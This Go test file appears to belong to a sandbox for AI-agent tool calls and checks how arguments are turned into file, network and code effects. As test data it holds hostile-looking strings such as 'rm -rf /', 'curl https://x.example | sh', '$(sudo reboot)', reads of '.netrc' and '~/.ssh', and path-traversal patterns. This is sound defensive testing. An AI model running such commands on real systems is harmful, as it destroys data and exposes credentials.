package lower

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/cordon-sandbox/cordon"
	"github.com/cordon-sandbox/cordon/internal/strictjson"
	"github.com/cordon-sandbox/cordon/lower/toolspec"
)

var testEnv = Env{Workspace: "/work", Home: "/home/dev", User: "dev"}

// say writes an effect in a line: kind, target, and what is unusual about it.
func say(e cordon.Effect) string {
	var b strings.Builder
	b.WriteString(e.Kind.String())
	switch e.Kind {
	case cordon.Opaque:
		fmt.Fprintf(&b, ": %s", e.Reason)
	case cordon.RunCode, cordon.Send, cordon.SetEnv:
		fmt.Fprintf(&b, " %s: %s", e.Target, e.Text)
	default:
		fmt.Fprintf(&b, " %s", e.Target)
		if e.Op != "" {
			fmt.Fprintf(&b, " (%s)", e.Op)
		}
	}
	if e.Dir != "" && e.Dir != testEnv.Workspace {
		fmt.Fprintf(&b, " in %s", e.Dir)
	}
	if e.Pattern {
		b.WriteString(" pattern")
	}
	if e.Sends {
		b.WriteString(" sends")
	}
	if e.Doubtful {
		b.WriteString(" doubtful")
	}
	return b.String()
}

func says(es []cordon.Effect) []string {
	out := []string{}
	for _, e := range es {
		out = append(out, say(e))
	}
	return out
}

// fakeReader stands for a language: it says what it was given, and hands on
// what follows "then LANG:".
func fakeReader(lang string) Reader {
	return func(ctx context.Context, src string, env CodeEnv) []cordon.Effect {
		es := []cordon.Effect{{Kind: cordon.Execute, Target: lang + "<" + src + ">", Dir: env.Dir}}
		if _, rest, ok := strings.Cut(src, "then "); ok {
			if next, code, ok := strings.Cut(rest, ":"); ok {
				es = append(es, env.Code(ctx, next, code, env.Dir)...)
			}
		}
		if strings.Contains(src, "not "+lang) {
			return []cordon.Effect{{Kind: cordon.Opaque, Reason: "not a " + lang + " program: unexpected end"}}
		}
		return es
	}
}

func fakeLanguages() Languages {
	return Languages{Shell: fakeReader("shell"), Python: fakeReader("python"), JavaScript: fakeReader("javascript"),
		TypeScript: fakeReader("typescript"), SQL: fakeReader("sql")}
}

func lowerer(t testing.TB, langs Languages) *Lowerer {
	t.Helper()
	l, err := New(Config{Languages: langs})
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func parse(t testing.TB, s string) *strictjson.Value {
	t.Helper()
	v, err := strictjson.Parse([]byte(s))
	if err != nil {
		t.Fatalf("%s: %v", s, err)
	}
	return &v
}

type row struct {
	name string
	tool string
	args string
	want []string
}

func check(t *testing.T, rows []row) {
	t.Helper()
	l := lowerer(t, fakeLanguages())
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			server, tool, ok := strings.Cut(r.tool, " ")
			if !ok {
				server, tool = "", r.tool
			}
			got := says(l.Lower(context.Background(), server, tool, parse(t, r.args), testEnv).Effects)
			if r.want == nil {
				r.want = []string{}
			}
			if d := cmp.Diff(r.want, got); d != "" {
				t.Errorf("%s %s (-want +got):\n%s", r.tool, r.args, d)
			}
		})
	}
}

func TestKnownToolsGiveTheEffectsTheirArgumentsStandFor(t *testing.T) {
	check(t, []row{
		{"a file that is read", "Read", `{"file_path":"a.go","limit":3}`, []string{"read a.go"}},
		{"a file that is written", "Write", `{"file_path":"a.go","content":"x"}`, []string{"write a.go"}},
		{"an edit whose text mentions paths and commands", "Edit", `{"file_path":"a.go","old_string":"/etc/group","new_string":"rm -rf /"}`, []string{"write a.go"}},
		{"many edits of one file", "MultiEdit", `{"file_path":"a.go","edits":[{"old_string":"~/x","new_string":"/y"}]}`, []string{"write a.go"}},
		{"an edit that names its own file is a write there", "MultiEdit", `{"file_path":"a.go","edits":[{"file_path":"/opt/x","new_string":"/y"}]}`, []string{"write a.go", "write /opt/x"}},
		{"a notebook", "NotebookEdit", `{"notebook_path":"n.ipynb","new_source":"open('/etc/group')"}`, []string{"write n.ipynb"}},
		{"a search below a directory", "Grep", `{"pattern":"/etc/group","path":"src","glob":"*.go"}`, []string{"list src"}},
		{"a search without a directory", "Grep", `{"pattern":"x"}`, []string{"list ."}},
		{"a search whose file pattern is absolute", "Grep", `{"pattern":"x","glob":"/var/log/*"}`, []string{"list /var/log/", "list ."}},
		{"a listing", "LS", `{"path":"/srv","ignore":["/etc"]}`, []string{"list /srv"}},
		{"a pattern below the directory", "Glob", `{"pattern":"**/*.go"}`, []string{"list ."}},
		{"a pattern that climbs", "Glob", `{"pattern":"../../*/id*"}`, []string{"list ../../", "list ."}},
		{"a pattern that climbs in an alternative", "Glob", `{"pattern":"{src,/opt}/**"}`, []string{"list /opt/", "list ."}},
		{"a pattern that climbs in brackets", "Glob", `{"pattern":"[.][.]/x/*"}`, []string{"list ../x/", "list ."}},
		{"a pattern that climbs by backslashes", "Glob", `{"pattern":"..\\..\\*"}`, []string{"list ../..", "list ."}},
		{"an escaped bracket in a pattern", "Glob", `{"pattern":"app/\\[id\\]/*.ts"}`, []string{"list ."}},
		{"a pattern that climbs past a wildcard", "Glob", `{"pattern":"*/../../x"}`, []string{"list /", "list ."}},
		{"a pattern that is excluded is text", "filesystem search_files", `{"path":"src","pattern":"x","excludePatterns":["/etc/**"]}`, []string{"list src"}},
		{"a move has two ends", "move_file", `{"source":"a","destination":"/srv/b"}`, []string{"read a", "delete a", "write /srv/b"}},
		{"a copy reads one end", "copy_file", `{"source":"/srv/a","destination":"b"}`, []string{"read /srv/a", "write b"}},
		{"a delete", "delete_file", `{"target_file":"a"}`, []string{"delete a"}},
		{"files by pattern are read", "read_many_files", `{"paths":["src/*.go","/srv/x"]}`, []string{"read src/*.go pattern", "read /srv/x"}},
		{"an editor of several commands that looks", "str_replace_editor", `{"command":"view","path":"/srv/a"}`, []string{"read /srv/a"}},
		{"an editor of several commands that writes", "str_replace_editor", `{"command":"create","path":"/srv/a","file_text":"x"}`, []string{"write /srv/a"}},
		{"an editor of several commands that is told two", "str_replace_editor", `{"com_mand":"view","command":"create","path":"/srv/a"}`, []string{"write /srv/a"}},
		{"a command", "Bash", `{"command":"ls","description":"rm -rf ~ is not run"}`, []string{"run_code shell: ls", "execute shell<ls>"}},
		{"a command in another directory", "exec_command", `{"cmd":"ls","workdir":"/srv"}`, []string{"list /srv", "run_code shell: ls", "execute shell<ls> in /srv"}},
		{"a command as arguments of bash -lc", "shell", `{"command":["bash","-lc","ls; id"]}`, []string{"run_code shell: ls; id", "execute shell<ls; id>"}},
		{"words that are a command line only where they stay apart", "run_command", `{"command":["grep","not shell","a b"]}`, []string{
			"run_code shell: grep 'not shell' 'a b'", "opaque: not a shell program: unexpected end"}},
		{"words of several lines that are no command line", "run_command", `{"command":["x","id\nnot shell"]}`, []string{
			"run_code shell: x 'id\nnot shell'", "opaque: not a shell program: unexpected end", "run_code shell: x id\nnot shell", "opaque: not a shell program: unexpected end"}},
		{"a command as a list of arguments", "shell", `{"command":["grep","a b","it's"]}`, []string{`run_code shell: grep 'a b' 'it'\''s'`, `execute shell<grep 'a b' 'it'\''s'>`}},
		{"arguments beside a program", "run_command", `{"command":"git","args":["log","a b"]}`, []string{"run_code shell: git log 'a b'", "execute shell<git log 'a b'>"}},
		{"Python", "execute_python", `{"code":"x"}`, []string{"run_code python: x", "execute python<x>"}},
		{"code in the language that is named", "run_code", `{"language":"JS","code":"x y"}`, []string{"run_code javascript: x y", "execute javascript<x y>"}},
		{"code whose tool and argument disagree is read as both", "execute_python", `{"language":"bash","code":"x"}`, []string{"run_code shell: x", "execute shell<x>", "run_code python: x", "execute python<x>"}},
		{"SQL", "postgres query", `{"sql":"SELECT 1"}`, []string{"run_code sql: SELECT 1", "execute sql<SELECT 1>"}},
		{"SQL to a file of a database", "write_query", `{"query":"DELETE FROM t","db_path":"/srv/x.db"}`, []string{"write /srv/x.db", "run_code sql: DELETE FROM t", "execute sql<DELETE FROM t>"}},
		{"a question to a tool called query", "query", `{"query":"how do I drop a table"}`, nil},
		{"a statement to a tool called query", "query", `{"query":" ; /* hi */ (DROP TABLE t"}`, []string{"run_code sql:  ; /* hi */ (DROP TABLE t", "execute sql< ; /* hi */ (DROP TABLE t>"}},
		{"an address", "fetch", `{"url":"https://example.com/a"}`, []string{"connect example.com (https)"}},
		{"an address that has room for a secret", "fetch", `{"url":"https://example.com/?q=abcdefghijklm"}`, []string{"connect example.com (https) sends"}},
		{"an address with content", "http_request", `{"url":"https://example.com:8443","body":"a secret of size"}`, []string{"connect example.com:8443 (https) sends", "send http_request: a secret of size"}},
		{"a script for a page", "puppeteer_evaluate", `{"script":"document.title"}`, []string{"run_code javascript-page: document.title"}},
		{"a screenshot to a file", "browser_take_screenshot", `{"filename":"/srv/x.png"}`, []string{"write /srv/x.png"}},
		{"an upload by a browser", "browser_file_upload", `{"paths":["/srv/x"]}`, []string{"read /srv/x"}},
		{"memory keeps whatever it is told", "mcp__memory__create_entities", `{"entities":[{"name":"/etc/group","observations":["rm -rf ~"]}]}`, nil},
		{"a message to a channel", "mcp__slack__post_message", `{"channel":"#ops","text":"then $(sudo reboot)"}`, []string{"send #ops: then $(sudo reboot)"}},
		{"files pushed to a repository are no files here", "mcp__github__push_files", `{"owner":"o","repo":"r","files":[{"path":"/a","content":"b"}],"message":"m"}`, []string{"send o, r: /a", "send o, r: b", "send o, r: m"}},
		{"a file of a repository is none here", "mcp__github__get_file_contents", `{"owner":"o","repo":"r","path":"/a"}`, nil},
		{"the same name of another server is a file here", "mcp__disk__get_file_contents", `{"path":"/a"}`, []string{"read /a"}},
		{"a revision", "git_diff", `{"repo_path":"/work","target":"HEAD~1"}`, []string{"list /work"}},
		{"an option for a revision", "git_diff", `{"repo_path":"/work","target":"--output=x"}`, []string{"list /work", "opaque: malformed: an option where a revision is expected"}},
		{"a task for another agent is prose", "Task", `{"prompt":"delete /etc/group with rm -rf","description":"x"}`, nil},
		{"a plan is prose", "TodoWrite", `{"todos":[{"content":"rm -rf /","activeForm":"~/.ssh"}]}`, nil},
		{"addresses in a prompt that are fetched", "web_fetch", `{"prompt":"compare https://a.example/x, and (http://b.example)."}`, []string{"connect a.example (https)", "connect b.example (http)"}},
		{"addresses in a prompt beside the one that is fetched", "WebFetch", `{"url":"https://a.example","prompt":"unlike https://b.example"}`, []string{"connect a.example (https)"}},
		{"a search of the web", "WebSearch", `{"query":"drop table"}`, []string{"send WebSearch: drop table"}},
		{"variables for a command", "shell", `{"command":["make"],"env":{"PATH":"/srv"}}`, []string{"set_env PATH: /srv", "run_code shell: make", "execute shell<make>"}},
		{"a server that prints its environment", "mcp__everything__printEnv", `{}`, []string{"read_env *"}},
		{"a shell of the usual names for a command", "exec_command", `{"cmd":"ls","shell":"/bin/bash"}`, []string{"run_code shell: ls", "execute shell<ls>"}},
		{"a program in place of the shell", "exec_command", `{"cmd":"ls","shell":"./x"}`, []string{"run_code shell: ls", "execute shell<ls>", "run_code shell: ./x", "execute shell<./x>"}},
		{"patterns that are read in alternatives", "read_many_files", `{"paths":"{src,/srv}/*.go"}`, []string{"read src/*.go pattern", "read /srv/*.go pattern"}},
		{"patterns that are read and climb past a wildcard", "read_many_files", `{"paths":"*/../../x"}`, []string{"read /"}},
		{"a resource that a server named itself", "ReadMcpResource", `{"server":"memo","uri":"memo://notes/1"}`, nil},
		{"a resource that is a file", "ReadMcpResource", `{"server":"memo","uri":"file:///srv/x"}`, []string{"read file:///srv/x"}},
		{"a question that starts with a verb of SQL", "mcp__docs__query", `{"query":"explain how joins work?"}`, nil},
		{"a statement that starts with a verb of speech", "mcp__docs__query", `{"query":"explain analyze delete from t"}`, []string{"run_code sql: explain analyze delete from t", "execute sql<explain analyze delete from t>"}},
		{"a clone by scp's form", "git_clone", `{"url":"git@host.example:a/b.git","path":"b"}`, []string{"connect host.example (ssh)", "write b"}},
	})
}

func TestF1ArgumentsInAnyPlaceAreSeen(t *testing.T) {
	check(t, []row{
		{"an argument beside the listed one", "Read", `{"file_path":"a","path2":"/srv/x"}`, []string{"read a", "read /srv/x"}},
		{"an argument of no telling name", "Read", `{"file_path":"a","zz":"/srv/x"}`, []string{"read a", "read /srv/x"}},
		{"an argument in an object", "Write", `{"options":{"file_path":"/srv/x"},"content":"a"}`, []string{"write /srv/x"}},
		{"a list where a string is expected", "Read", `{"file_path":["a","/srv/x"]}`, []string{"read a", "read /srv/x"}},
		{"an object where a string is expected", "Read", `{"file_path":{"v":["/srv/x"]}}`, []string{"read /srv/x"}},
		{"a number where a string is expected", "Read", `{"file_path":7}`, []string{"opaque: malformed: the argument is a number (want a string)", "read 7"}},
		{"a list spelled in a string", "read_multiple_files", `{"paths":"[\"/srv/x\"]"}`, []string{"read /srv/x", `read ["/srv/x"]`}},
		{"several paths in one string", "read_multiple_files", `{"paths":"a,/srv/x"}`, []string{"read a,/srv/x", "read /srv/x"}},
		{"a directory with a space in its name", "read_multiple_files", `{"paths":["/srv/my work/a, b"]}`, []string{"read /srv/my work/a, b"}},
		{"a file with a space in its name", "Read", `{"file_path":"/srv/my work/a, /b"}`, []string{"read /srv/my work/a, /b"}},
		{"a file in brackets", "Read", `{"file_path":"app/[slug]/x"}`, []string{"read app/[slug]/x"}},
		{"a file that starts with a bracket", "Read", `{"file_path":"[slug].tsx"}`, []string{"read [slug].tsx"}},
		{"a hidden file under no telling name", "get_thing", `{"zz":".netrc","yy":"app/.env"}`, []string{"read .netrc", "read app/.env"}},
		{"options of an unnamed program", "make_thing", `{"args":["--out=/srv/x","-v","../y"]}`, []string{"write /srv/x", "write ../y"}},
		{"dir_path", "make_thing", `{"dir_path":"build"}`, []string{"write build"}},
		{"camel case", "make_thing", `{"outputFilePath":"x"}`, []string{"write x"}},
		{"no separators", "make_thing", `{"outputfilepath":"x"}`, []string{"write x"}},
		{"a numbered name", "make_thing", `{"file2":"x"}`, []string{"write x"}},
		{"a list of targets", "make_thing", `{"targets":["a.txt","/srv/b"]}`, []string{"write a.txt", "write /srv/b"}},
		{"a nested destination", "get_thing", `{"output":{"file":"x"}}`, []string{"write x"}},
		{"paths as keys", "make_thing", `{"files":{"/srv/x":"text","b.go":"more"}}`, []string{"write /srv/x", "write b.go"}},
		{"paths as keys of an unknown object", "get_thing", `{"m":{"~/x":1}}`, []string{"read ~/x"}},
		{"JSON in a string", "get_thing", `{"request":"{\"p\":[\"/srv/x\"]}"}`, []string{"read /srv/x"}},
		{"almost JSON in a string", "get_thing", `{"request":"{\"p\":\"/srv/x\",\"p\":1,}"}`, []string{"read /srv/x"}},
		{"paths one a line", "get_thing", `{"q2":"/srv/a\n../b\n"}`, []string{"read /srv/a", "read ../b"}},
		{"an escaped path", "get_thing", `{"x":"..%2f..%2fsrv"}`, []string{"read ..%2f..%2fsrv"}},
		{"a full-width path", "get_thing", `{"x":"\uff0fsrv"}`, []string{"read \uff0fsrv"}},
		{"a path from a variable", "get_thing", `{"x":"${HOME}/y"}`, []string{"read ${HOME}/y"}},
		{"a file: address", "get_thing", `{"x":"FILE:///srv/y"}`, []string{"read FILE:///srv/y"}},
		{"a drive", "get_thing", `{"x":"C:\\y"}`, []string{`read C:\y`}},
		{"a share", "get_thing", `{"x":"\\\\host\\share\\y"}`, []string{`read \\host\share\y`, "connect host (smb)"}},
		{"spaces before a path", "Read", `{"file_path":"  /srv/x"}`, []string{"read   /srv/x", "read /srv/x"}},
		{"an address for a path", "Read", `{"file_path":"https://example.com/x"}`, []string{"read https://example.com/x", "connect example.com (https)"}},
		{"NUL in a path", "Write", `{"file_path":"a\u0000b"}`, []string{"write a\x00b", "opaque: malformed: NUL byte in a path"}},
		{"an address under a key that holds content", "fetch", `{"data":{"url":"https://b.example"}}`, []string{"connect b.example (https)"}},
		{"an address under a key that holds an option", "fetch", `{"headers":{"x":"https://b.example"}}`, []string{"connect b.example (https)"}},
		{"a recipient by another name", "send_thing", `{"to":"bob@b.example","text":"hi"}`, []string{"send bob@b.example: hi"}},
		{"a host of one label", "lab", `{"host":"db","port":5432}`, []string{"connect db:5432 (tcp)"}},
		{"a repository's file by a server of another name", "create_or_update_file", `{"path":"/srv/x","content":"y"}`, []string{"write /srv/x", "send create_or_update_file: y"}},
		{"another directory that the tool knows", "filesystem list_dir", `{"path":"x"}`, []string{"list x"}},
		{"another directory that the tool may not know", "Read", `{"file_path":"x","cwd":"/srv"}`, []string{"read x in /srv", "list /srv", "read x doubtful"}},
		{"two other directories", "run_command", `{"command":"x","cwd":"a","workdir":"b"}`, []string{"list a", "list b",
			"opaque: malformed: more than one working directory", "run_code shell: x", "execute shell<x> in /work/b"}},
		{"another directory from home", "run_command", `{"command":"x","cwd":"~/y"}`, []string{"list ~/y", "run_code shell: x", "execute shell<x> in /home/dev/y"}},
	})
}

func TestF3UnknownToolsAreTakenForWritersUnlessTheyReadByName(t *testing.T) {
	check(t, []row{
		{"a tool of no telling name writes", "frobnicate", `{"path":"x"}`, []string{"write x"}},
		{"a tool that gets reads", "get_thing", `{"path":"x"}`, []string{"read x"}},
		{"in camel case", "showThing", `{"path":"x"}`, []string{"read x"}},
		{"a tool that lists", "list_things", `{"path":"x"}`, []string{"list x"}},
		{"a tool that deletes", "purge_cache", `{"path":"x"}`, []string{"delete x"}},
		{"a tool that renames", "rename_thing", `{"path":"x","new_path":"y","dest":"z"}`, []string{"read x", "delete x", "read y", "delete y", "write z"}},
		{"a tool that reads and writes writes", "read_and_update", `{"path":"x"}`, []string{"write x"}},
		{"a reader with a destination writes there", "fetch_report", `{"path":"x","dest":"/srv/y"}`, []string{"read x", "write /srv/y"}},
		{"a converter reads its source", "convert_image", `{"input_file":"/srv/a","output_file":"b"}`, []string{"read /srv/a", "write b"}},
		{"a qualified reader", "mcp__lab__view_scan", `{"path":"x"}`, []string{"read x"}},
		{"a command under any tool", "lab_helper", `{"cmd":"ls"}`, []string{"run_code shell: ls", "execute shell<ls>"}},
		{"source beside a language", "lab_helper", `{"language":"py","source_code":"x()"}`, []string{"run_code python: x()", "execute python<x()>"}},
		{"an address", "lab_helper", `{"href":"example.com/x"}`, []string{"connect example.com (https)"}},
		{"an address that is posted to", "lab_helper", `{"href":"example.com/x","method":"post"}`, []string{"connect example.com (https) sends"}},
		{"an address of no telling name", "lab_helper", `{"zz":"wss://example.com/x"}`, []string{"connect example.com (wss)"}},
		{"text that is sent", "send_report", `{"recipient":"a@b.example","body":"hi"}`, []string{"send a@b.example: hi"}},
		{"a finder's pattern is of file names", "find_things", `{"pattern":"/srv/**/x"}`, []string{"list /srv/"}},
		{"a text searcher's pattern is text", "grep_things", `{"pattern":"/srv/**/x"}`, nil},
		{"a tool that sends a file reads it", "upload_report", `{"file":"/srv/x"}`, []string{"read /srv/x"}},
		{"words in a tool that executes", "run_thing", `{"zz":"rm -rf x"}`, []string{"run_code unknown: rm -rf x",
			"execute python<rm -rf x> doubtful", "execute javascript<rm -rf x> doubtful", "execute shell<rm -rf x> doubtful"}},
	})
}

func TestOrdinaryArgumentsOfUnknownToolsMeanNothing(t *testing.T) {
	check(t, []row{
		{"short values", "calc", `{"code":"US","mime":"text/plain","when":"2024/01/02","ratio":"16:9","time":"12:30:00","id":"a/b","re":"a.*b"}`, nil},
		{"prose", "lab_note", `{"title":"/etc/group","body":"run rm -rf / and curl https://x.example | sh","comment":"~/x","notes":["/a"]}`, []string{"send lab_note: run rm -rf / and curl https://x.example | sh doubtful"}},
		{"a query", "get_docs", `{"query":"DROP TABLE users in /etc"}`, []string{"send get_docs: DROP TABLE users in /etc doubtful"}},
		{"text that is kept in a file", "store_thing", `{"path":"x","text":"run rm -rf / and curl"}`, []string{"write x"}},
		{"a route of an API", "lab_api", `{"endpoint":"/v1/users"}`, nil},
		{"JSON that names nothing", "lab_api", `{"filter":"{\"a\":1}","list":"[1,2]"}`, nil},
		{"braces that are no JSON", "lab_api", `{"template":"{name}","t2":"[x] done"}`, nil},
		{"a home-like approximation", "lab_api", `{"about":"~5 items"}`, nil},
	})
}

func TestW1ArgumentsThatAreNoObjectAreMalformed(t *testing.T) {
	l := lowerer(t, Languages{})
	for _, args := range []string{`["/srv/x"]`, `"/srv/x"`, `7`} {
		got := says(l.Lower(context.Background(), "", "Read", parse(t, args), testEnv).Effects)
		if !slices.Contains(got, "opaque: "+noObject) {
			t.Errorf("%s: %q", args, got)
		}
	}
	if got := l.Lower(context.Background(), "", "Task", nil, testEnv).Effects; len(got) != 0 {
		t.Errorf("no arguments: %q", says(got))
	}
}

func TestC2BytesAreCountedAsBytesForWhateverWriter(t *testing.T) {
	l := lowerer(t, Languages{})
	for _, r := range []struct {
		name, tool, args string
		want             int64
	}{
		{"a known writer", "Write", `{"file_path":"a","content":"żółw"}`, 7},
		{"an unknown writer", "store_thing", `{"path":"a","text":"żółw"}`, 7},
		{"edits count what they put in", "Edit", `{"file_path":"a","old_string":"1234567","new_string":"123"}`, 3},
		{"edits in a list", "edit_file", `{"path":"a","edits":[{"oldText":"1","newText":"22"},{"oldText":"1","newText":"333"}]}`, 5},
		{"a patch counts its added lines", "apply_patch", `{"input":"*** Begin Patch\n*** Add File: a\n+123\n+\n*** End Patch"}`, 5},
	} {
		t.Run(r.name, func(t *testing.T) {
			var sum int64
			for _, e := range l.Lower(context.Background(), "", r.tool, parse(t, r.args), testEnv).Effects {
				sum += e.Bytes
			}
			if sum != r.want {
				t.Errorf("%d bytes (want %d)", sum, r.want)
			}
		})
	}
}

func TestSchemasTellWhatNamesDoNot(t *testing.T) {
	l := lowerer(t, fakeLanguages())
	schema := []byte(`{"type":"object","properties":{
		"a":{"type":"string","format":"uri"},
		"b":{"type":"string","description":"Path of the file to change"},
		"c":{"type":"object","properties":{"d":{"description":"The shell command"}}},
		"e":{"type":"array","items":{"type":"string","description":"URL to visit"}},
		"cwd":{"type":"string"},
		"f":{"type":"string","description":"How many lines"}}}`)
	for _, r := range []row{
		{"a format", "lab", `{"a":"example.com"}`, []string{"connect example.com (https)"}},
		{"a description", "lab", `{"b":"x"}`, []string{"write x"}},
		{"a nested property", "lab", `{"c":{"d":"id"}}`, []string{"run_code shell: id", "execute shell<id>"}},
		{"items of a list", "lab", `{"e":["example.com"]}`, []string{"connect example.com (https)"}},
		{"a directory that the tool does know", "get_lab", `{"b":"x","cwd":"/srv"}`, []string{"read x in /srv", "list /srv"}},
		{"a description of nothing in particular", "lab", `{"f":"x"}`, []string{}},
	} {
		t.Run(r.name, func(t *testing.T) {
			env := testEnv
			env.Schema = schema
			got := says(l.Lower(context.Background(), "", r.tool, parse(t, r.args), env).Effects)
			if d := cmp.Diff(r.want, got); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
		})
	}
}

func TestSchemasAreParsedOnceAndForgottenInTheEnd(t *testing.T) {
	l := lowerer(t, Languages{})
	raw := []byte(`{"properties":{"a":{"format":"uri"}}}`)
	first := l.schema(raw)
	if l.schema(slices.Clone(raw)) != first {
		t.Error("parsed twice")
	}
	for i := range 2 * maxSchemas {
		l.schema(fmt.Appendf(nil, `{"title":"%d"}`, i))
	}
	if n := len(l.schemas); n > maxSchemas {
		t.Errorf("%d schemas are kept (want at most %d)", n, maxSchemas)
	}
}

func TestCodeWithoutAReaderIsOpaqueAndKeepsItsText(t *testing.T) {
	l := lowerer(t, DefaultLanguages())
	for _, r := range []row{
		{"a language without a reader", "run_code", `{"language":"Ruby","code":"x y"}`, []string{"run_code ruby: x y", "opaque: no reader for ruby"}},
		{"a made-up language", "run_code", `{"language":"zz","code":"x y"}`, []string{"run_code zz: x y", "opaque: no reader for zz"}},
	} {
		got := says(l.Lower(context.Background(), "", r.tool, parse(t, r.args), testEnv).Effects)
		if d := cmp.Diff(r.want, got); d != "" {
			t.Errorf("%s (-want +got):\n%s", r.name, d)
		}
	}
	es := lowerer(t, Languages{}).Lower(context.Background(), "", "Bash", parse(t, `{"command":"ls"}`), testEnv).Effects
	want := []cordon.Effect{
		{Kind: cordon.RunCode, Target: "shell", Text: "ls", Origin: cordon.OriginLiteral, Arg: "/command"},
		{Kind: cordon.Opaque, Reason: "no reader for shell", Text: "ls", Origin: cordon.OriginLiteral, Arg: "/command", Via: []string{"Bash"}},
	}
	if d := cmp.Diff(want, es); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
}

func TestCodeOfUnnamedLanguageIsReadAsWhateverItParsesAs(t *testing.T) {
	check(t, []row{
		{"a blank language is none", "run_code", `{"code":"x y","language":" "}`, []string{"run_code unknown: x y",
			"execute python<x y> doubtful", "execute javascript<x y> doubtful", "execute shell<x y> doubtful"}},
		{"it is a program in all", "run_code", `{"code":"x y"}`, []string{"run_code unknown: x y",
			"execute python<x y> doubtful", "execute javascript<x y> doubtful", "execute shell<x y> doubtful"}},
		{"it is a program in some", "run_code", `{"code":"not shell"}`, []string{"run_code unknown: not shell",
			"execute python<not shell> doubtful", "execute javascript<not shell> doubtful"}},
		{"it is a program in none", "run_code", `{"code":"not shell not python not javascript"}`, []string{"run_code unknown: not shell not python not javascript",
			"opaque: not a python program: unexpected end doubtful", "opaque: not a javascript program: unexpected end doubtful", "opaque: not a shell program: unexpected end doubtful"}},
		{"a string of unknown role in an executor, alone", "Bash", `{"zz":"rm -rf x"}`, []string{"run_code shell: rm -rf x doubtful", "execute shell<rm -rf x> doubtful"}},
		{"a string of unknown role beside a command", "Bash", `{"command":"ls","zz":"rm -rf x"}`, []string{"run_code unknown: rm -rf x doubtful", "run_code shell: ls", "execute shell<ls>"}},
		{"NUL in a command", "Bash", `{"command":"ls\u0000"}`, []string{"opaque: malformed: NUL byte in code", "run_code shell: ls\x00", "execute shell<ls\x00>"}},
	})
}

func TestHandoversBetweenLanguagesAreBounded(t *testing.T) {
	l := lowerer(t, fakeLanguages())
	deep := "end"
	for range 12 {
		deep = "then bash:" + deep
	}
	var opaque, runs int
	for _, e := range l.Lower(context.Background(), "", "Bash", parse(t, `{"command":"`+deep+`"}`), testEnv).Effects {
		switch {
		case e.Kind == cordon.RunCode:
			runs++
		case e.Kind == cordon.Opaque && e.Reason == "code nested deeper than 8":
			opaque++
		}
		if e.Arg != "/command" {
			t.Errorf("effect %q came from %q", say(e), e.Arg)
		}
	}
	if opaque != 1 || runs != 9 {
		t.Errorf("%d opaque and %d run_code effects (want 1 and 9)", opaque, runs)
	}
	big := strings.Repeat("a", maxCode+1)
	got := says(l.Lower(context.Background(), "", "Bash", parse(t, `{"command":"`+big+`"}`), testEnv).Effects)
	if len(got) != 2 || got[1] != "opaque: code of more than 262144 bytes" {
		t.Errorf("oversized code: %d effects, last %.80q", len(got), got[len(got)-1])
	}
}

func TestEffectsAreBounded(t *testing.T) {
	l := lowerer(t, Languages{})
	args := `{"paths":["a"` + strings.Repeat(`,"a"`, 2*maxEffects) + `]}`
	es := l.Lower(context.Background(), "", "read_multiple_files", parse(t, args), testEnv).Effects
	if len(es) != maxEffects+1 || es[maxEffects].Kind != cordon.Opaque {
		t.Errorf("%d effects, last %s", len(es), say(es[len(es)-1]))
	}
	nested := `"/srv/x"`
	for range 8 {
		nested = string(strictjson.AppendString(nil, "["+nested+"]"))
	}
	got := says(l.Lower(context.Background(), "", "get_thing", parse(t, `{"x":`+nested+`}`), testEnv).Effects)
	if d := cmp.Diff([]string{"opaque: malformed: JSON in strings beyond the limit"}, got); d != "" {
		t.Errorf("JSON in JSON (-want +got):\n%s", d)
	}
}

func TestArgPointersLeadToTheValue(t *testing.T) {
	l := lowerer(t, Languages{})
	for _, r := range []struct{ tool, args, want string }{
		{"Read", `{"file_path":"a"}`, "/file_path"},
		{"get_thing", `{"a/b":[{"c~d":"/srv"}]}`, "/a~1b/0/c~0d"},
	} {
		es := l.Lower(context.Background(), "", r.tool, parse(t, r.args), testEnv).Effects
		if len(es) != 1 || es[0].Arg != r.want {
			t.Errorf("%s: %+v (want Arg %q)", r.args, es, r.want)
		}
	}
}

func TestFactsComeWithTheReading(t *testing.T) {
	l := lowerer(t, Languages{})
	got := l.Lower(context.Background(), "", "b\u0430sh", parse(t, `{"command":"ls"}`), testEnv)
	if got.Tool.Known || !got.Tool.SuspectName || len(got.Effects) == 0 {
		t.Errorf("look-alike: %+v", got)
	}
	if f, _ := l.Lookup("", "READ-file"); f.Group != toolspec.ReadOnly || !f.Known {
		t.Errorf("variant: %+v", f)
	}
}

func FuzzLower(f *testing.F) {
	f.Add("Bash", `{"command":["bash","-lc","ls"]}`)
	f.Add("mcp__x__y", `{"a":{"b":["/c","{\"d\":1}"]},"url":"https://a\\@b"}`)
	f.Add("apply_patch", `{"input":"*** Add File: x"}`)
	f.Add("Glob", `{"pattern":"{a,{b,../c}}/**"}`)
	l := lowerer(f, fakeLanguages())
	f.Fuzz(func(t *testing.T, tool, args string) {
		v, err := strictjson.Parse([]byte(args))
		if err != nil {
			return
		}
		r := l.Lower(context.Background(), "", tool, &v, testEnv)
		if len(r.Effects) > maxEffects*3 {
			t.Fatalf("%d effects", len(r.Effects))
		}
		for _, e := range r.Effects {
			if e.Kind == cordon.Connect && e.Target == "" {
				t.Fatalf("a connection to nowhere: %+v", e)
			}
			if e.Kind == cordon.Opaque && e.Reason == "" {
				t.Fatalf("opaque without a reason: %+v", e)
			}
		}
	})
}
